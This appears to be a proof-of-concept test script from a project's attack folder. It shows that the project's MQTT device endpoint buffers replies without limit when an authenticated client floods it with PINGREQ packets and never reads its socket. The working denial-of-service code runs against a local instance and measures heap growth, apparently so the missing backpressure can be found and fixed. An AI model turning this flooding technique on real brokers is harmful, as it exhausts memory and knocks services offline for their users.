/**
 * Write-side memory: an authenticated device that never reads its socket can make the endpoint
 * buffer unbounded answers. PINGREQ (and SUBSCRIBE, UNSUBSCRIBE, PUBREL) are neither rate-limited
 * (only PUBLISH spends a token) nor stopped by backpressure: DeviceSession.send ignores write()'s
 * return value, so every 2-byte PINGRESP becomes a queued write request (~hundreds of bytes of heap).
 * Run: node --expose-gc --import tsx attack/pingreq-amplification.ts [MiB of PINGREQ]
 */
import net from 'node:net';
import mqttPacket from 'mqtt-packet';
import { startDeviceEndpoint } from '../lib/device-endpoint/device-endpoint';
import type { DeviceEndpointStore } from '../lib/device-endpoint/ports';
import { hashDeviceSecret } from '../lib/devices/device-secret';

const mib = Number(process.argv[2] ?? 8);
const secretHash = await hashDeviceSecret('s3cret');
const device = { credentialId: 'c1', workspaceId: 'w', username: 'dev', allowedFilters: [], expiresAt: null, revokedAt: null, secretHash };
const store = {
  findDevice: async () => device,
  recordConnection: async () => undefined,
  addCounts: async () => undefined,
  refusedCredentials: async () => new Set(),
  clearQos2Receipts: async () => undefined,
} as unknown as DeviceEndpointStore;
const ep = await startDeviceEndpoint({ store, port: 0, wsPort: 0 });
const s = net.connect(ep.port, '127.0.0.1');
await new Promise((r) => s.once('connect', r));
s.write(mqttPacket.generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId: 'p', keepalive: 0, username: 'dev', password: Buffer.from('s3cret') }));
await new Promise((r) => s.once('data', r)); // CONNACK
s.pause(); // never read again
global.gc?.();
const before = process.memoryUsage().heapUsed;
const chunk = Buffer.alloc(1024 * 1024);
for (let i = 0; i < chunk.length; i += 2) (chunk[i] = 0xc0), (chunk[i + 1] = 0); // PINGREQ
for (let i = 0; i < mib; i++) await new Promise<void>((r) => s.write(chunk, () => r()));
await new Promise((r) => setTimeout(r, 3000));
global.gc?.();
const after = process.memoryUsage().heapUsed;
console.log(`rss ${(process.memoryUsage().rss / 2 ** 20).toFixed(0)} MiB; ${mib} MiB of PINGREQ (${(mib * 1024 * 1024) / 2} packets) from a client that does not read: endpoint heap +${((after - before) / 2 ** 20).toFixed(0)} MiB`);
s.destroy();
await ep.close();
